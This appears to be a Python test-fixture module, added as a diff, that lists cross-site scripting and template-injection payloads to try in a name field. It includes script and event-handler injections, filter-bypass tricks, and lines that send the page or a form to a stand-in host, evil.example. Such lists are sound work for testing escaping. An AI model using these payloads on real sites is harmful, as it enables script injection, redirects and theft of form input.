@@ -1,0 +1,38 @@
+"""What somebody might put where a name is asked for, in the hope that a page takes it for more than text."""
+
+RUN = "document.title='pwned';window.pwned=1;alert(1)"
+
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f'<img src=x onerror="{RUN}">',
+    f'<svg onload="{RUN}">',
+    f'"><script>{RUN}</script>',
+    f"'><script>{RUN}</script>",
+    f'" autofocus onfocus="{RUN}" x="',
+    f"' autofocus onfocus='{RUN.replace(chr(39), chr(96))}' x='",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f'</code></pre><img src=x onerror="{RUN}">',
+    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
+    f'<iframe src="javascript:{RUN}"></iframe>',
+    f'<a href="javascript:{RUN}" id=bait>bait</a>',
+    f"javascript:{RUN}",
+    f'<body onload="{RUN}">',
+    f'<details open ontoggle="{RUN}">x</details>',
+    f'<video><source onerror="{RUN}"></video>',
+    f"<math><mtext><script>{RUN}</script></mtext></math>",
+    f"<style>@import 'https://evil.example/';</style><script>{RUN}</script>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><button>sign in</button></form>",
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    f'<!--<img src="--><img src=x onerror={RUN}//">',
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    "{{ 7 * 7 }}{% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %}",
+    f"${{{RUN}}}`-{RUN}-`",
+    f"\u003cscript\u003e{RUN}\u003c/script\u003e\u202e",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+)
